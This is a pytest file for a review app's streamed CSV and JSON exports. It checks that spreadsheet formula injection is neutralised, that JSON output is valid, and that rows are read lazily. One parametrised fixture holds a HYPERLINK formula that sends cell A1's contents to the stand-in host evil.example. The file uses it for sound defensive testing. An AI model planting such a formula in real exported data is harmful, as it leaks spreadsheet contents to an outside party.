"""Streamed exports: formula injection neutralised, JSON valid, nothing materialised up front."""

from __future__ import annotations

import csv
import io
import itertools
import json

import pytest

from reviews import exports


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_dangerous_first_character_is_neutralised(start):
    payload = f'{start}HYPERLINK("https://evil.example/?x="&A1,"click")'
    body = "".join(exports.csv_chunks(["title"], [[payload], ["plain"]]))
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert rows[1] == ["'" + payload]
    assert rows[2] == ["plain"]


def test_a_dangerous_character_later_in_the_cell_is_left_alone():
    assert exports.neutralise("a=b") == "a=b"
    assert exports.neutralise("1+1") == "1+1"
    assert exports.neutralise(-3) == -3  # a number is a number, not a formula
    assert exports.neutralise("") == ""


def test_headers_are_neutralised_and_none_is_an_empty_cell():
    body = "".join(exports.csv_chunks(["=1+1", "b"], [[None, "x"]]))
    assert list(csv.reader(io.StringIO(body))) == [["'=1+1", "b"], ["", "x"]]


def test_json_is_one_valid_document_with_meta_and_items():
    rows = ({"n": n, "text": 'é"<'} for n in range(1203))
    body = "".join(exports.json_chunks(rows, meta={"workload": "Shop"}))
    document = json.loads(body)
    assert document["meta"] == {"workload": "Shop"}
    assert [item["n"] for item in document["items"]] == list(range(1203))
    assert json.loads("".join(exports.json_chunks([])))["items"] == []


def test_rows_are_read_as_the_download_goes_not_before():
    consumed = itertools.count()

    def rows():
        for n in range(10 * exports.CHUNK_ROWS):
            next(consumed)
            yield [n, "x"]

    response = exports.csv_response("items", ["n", "x"], rows())
    assert next(consumed) == 0  # building the response read nothing
    first = next(iter(response.streaming_content))
    assert first.startswith(b"n,x\r\n0,x\r\n")
    assert next(consumed) <= exports.CHUNK_ROWS + 1  # one chunk read, not all ten
    assert response["Content-Disposition"] == 'attachment; filename="items.csv"'
